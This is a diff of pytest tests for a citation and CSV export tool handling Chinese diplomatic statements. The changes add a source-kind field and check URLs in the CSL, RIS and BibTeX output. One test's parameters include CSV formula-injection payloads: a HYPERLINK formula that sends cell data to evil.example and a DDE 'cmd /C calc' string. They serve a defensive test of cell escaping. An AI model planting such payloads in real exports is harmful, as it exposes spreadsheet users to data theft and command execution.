@@ -357,15 +357,22 @@ def test_a_citation_gives_a_recorded_url_as_written(url, base):
 
 
 def test_every_clause_citation_gives_the_recorded_url_as_written():
-    from build_scripts.provenance import Provenance
+    """The recorded source's address reaches the record (the CSL note, RIS N1, BibTeX note, DC.source) as written;
+    the rendered citations give the page's own address, as written too."""
+    from build_scripts.provenance import Provenance, source_line
 
     _, statements, _, _ = read_source(GOOD)
     url = "https://www.fmprc.gov.cn/web/zyxw/t1256274.shtml"
-    prov = Provenance((url,), "外交部", None, "manifest", "manifest")
+    prov = Provenance((url,), "外交部", None, "manifest", "manifest", "official")
+    note = "来源：" + "".join(text for text, _ in source_line(prov, lambda text: text))
     citation = cite.statement_citation(statements[0], "zh-Hans", prov, ("中华人民共和国", "巴基斯坦伊斯兰共和国"),
-                                       "中巴联合声明", "", "description")
-    assert all(url in texts["chicago"] and "Https" not in texts["chicago"] for texts in citation.clauses.values())
-    assert url in citation.templates["chicago"][0]
+                                       "中巴联合声明", "https://example.org/cpec/", "description", note=note)
+    assert citation.item["note"] == f"来源：外交部（官方网页）；发布日期未能确定；{url}"
+    assert f"N1  - {citation.item['note']}" in cite.ris(citation.item)
+    assert url.replace("_", "\\_") in cite.bibtex(citation.item) and f'<meta name="DC.source" content="{url}">' in citation.head
+    for anchor, texts in citation.clauses.items():
+        page = f"https://example.org/cpec/zh-Hans/statements/{statements[0].slug}/#{anchor}"
+        assert all(page in text and "Https" not in text for text in texts.values())
 
 
 def test_the_first_letter_of_a_sentence_is_still_capitalised():
@@ -379,7 +386,8 @@ def test_the_first_letter_of_a_sentence_is_still_capitalised():
 def record(text: str, publisher: str = "外交部", urls: tuple[str, ...] = ()) -> dict:
     return {"statement": "2015-04-20", "anchor": "c1", "label": {"zh-Hans": "第一条", "zh-Hant": "第一條"},
             "text": {"zh-Hans": text, "zh-Hant": text}, "url": {"zh-Hans": "u1", "zh-Hant": "u2"}, "see_also": [],
-            "source": {"source_urls": list(urls), "publisher": publisher, "posted": None}, "source_script": "zh-Hans"}
+            "source": {"source_urls": list(urls), "publisher": publisher, "posted": None, "kind": None},
+            "source_script": "zh-Hans"}
 
 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
@@ -402,12 +410,12 @@ def test_every_other_csv_cell_is_written_as_before(cell):
     langs = ["zh-Hans", "zh-Hant"]
     out = io.StringIO()
     fields = ["statement", "anchor", *(f"{k}_{lang}" for k in ("label", "text", "url") for lang in langs), "see_also",
-              "source_urls", "publisher", "posted", "source_script"]
+              "source_urls", "publisher", "posted", "source_kind", "source_script"]
     writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
     writer.writeheader()
     writer.writerow({"statement": "2015-04-20", "anchor": "c1", "label_zh-Hans": "第一条", "label_zh-Hant": "第一條",
                      "text_zh-Hans": cell, "text_zh-Hant": cell, "url_zh-Hans": "u1", "url_zh-Hant": "u2", "see_also": "",
-                     "source_urls": "", "publisher": cell, "posted": "", "source_script": "zh-Hans"})
+                     "source_urls": "", "publisher": cell, "posted": "", "source_kind": "", "source_script": "zh-Hans"})
     assert clauses_csv([record(cell, publisher=cell)], langs) == ("\ufeff" + out.getvalue()).encode("utf-8")
 
 
